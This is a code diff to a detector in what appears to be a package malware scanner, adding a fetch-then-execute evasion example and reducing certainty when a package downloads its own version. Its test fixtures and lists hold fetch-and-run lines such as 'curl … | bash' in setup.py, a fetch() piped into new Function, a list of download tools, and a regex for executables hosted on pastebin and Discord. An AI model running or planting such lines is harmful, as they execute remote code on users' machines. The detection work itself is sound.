@@ -2,8 +2,8 @@ import { isProgram } from "../behaviour/commands.ts";
 import { marks, mayDo } from "../behaviour/marks.ts";
 import { deedsOf, type Flow, flowsBetween } from "../behaviour/trace.ts";
 import type { Detector } from "../detector.ts";
-import type { SourceFile } from "../model.ts";
-import { certainty } from "./_flow.ts";
+import type { ReleaseTree, SourceFile } from "../model.ts";
+import { asksOwnVersion, certainty } from "./_flow.ts";
 import { codeWith, matchInCode, sight } from "./_sight.ts";
 
 const COMMANDS = ["curl", "wget", "certutil", "downloadstring", "downloadfile", "invoke-webrequest", "mshta"] as const;
@@ -29,7 +29,7 @@ install or import, and in part in a function that somebody has to call.`,
     for (const file of codeWith(tree, marks("http", "decode"))) {
       yield* piped(file);
       for (const flow of flowsBetween(file, ["http"], ["start", "run-code"]))
-        if (isProgram(flow.sink)) yield said(file, flow);
+        if (isProgram(flow.sink)) yield said(file, flow, tree);
     }
   },
   examples: {
@@ -56,6 +56,13 @@ install or import, and in part in a function that somebody has to call.`,
       { ecosystem: "pypi", files: { "demo/a.py": "# curl http://example.invalid/x | sh\n" } },
     ],
     evasions: [
+      {
+        ecosystem: "npm",
+        files: {
+          "a.js":
+            "const get = () => fetch('https://example.invalid/x').then((r) => r.text());\nfunction go(t) { new Function(t)(); }\ngo(await get());\n",
+        },
+      },
       {
         ecosystem: "pypi",
         files: { "setup.py": "from os import system as s\ns('curl -s http://example.invalid/x | bash')\n" },
@@ -114,14 +121,14 @@ const SHELLS = new Set(["shell", "batch", "powershell"]);
 const UNOWNED_PROGRAM =
   /https?:\/\/(?:raw\.githubusercontent\.com|gist\.githubusercontent\.com|pastebin\.com\/raw|cdn\.discordapp\.com)\/[^\s"'<>]{1,300}\.(?:py|pyw|exe|ps1|bat|vbs|sh)\b/i;
 
-function said(file: SourceFile, flow: Flow) {
+function said(file: SourceFile, flow: Flow, tree: ReleaseTree) {
   const { source, sink } = flow;
   const how = sink.act === "start" ? "started" : "executed";
   const from = source.text.trim() === "" ? "" : ` (${source.text.trim().slice(0, 100)})`;
   const says = `what ${source.what} fetches${from} is ${how} by ${sink.what}`;
   // Where the address is written down, its owner decides what runs; where the caller gives it, the caller does.
   const known = late(sink.phase) ? lateShare(file, source.text, sink.text) : 1;
-  const sure = certainty(file, flow);
+  const sure = certainty(file, flow) * (asksOwnVersion(file, sink, tree) ? 0.25 : 1);
   const unowned = sink.act === "start" && file.text.length < 4 * SMALL && UNOWNED_PROGRAM.test(file.text);
   return sight(file, sink.offset, says, { phase: sink.phase, share: known * (unowned ? Math.max(sure, 0.7) : sure) });
 }
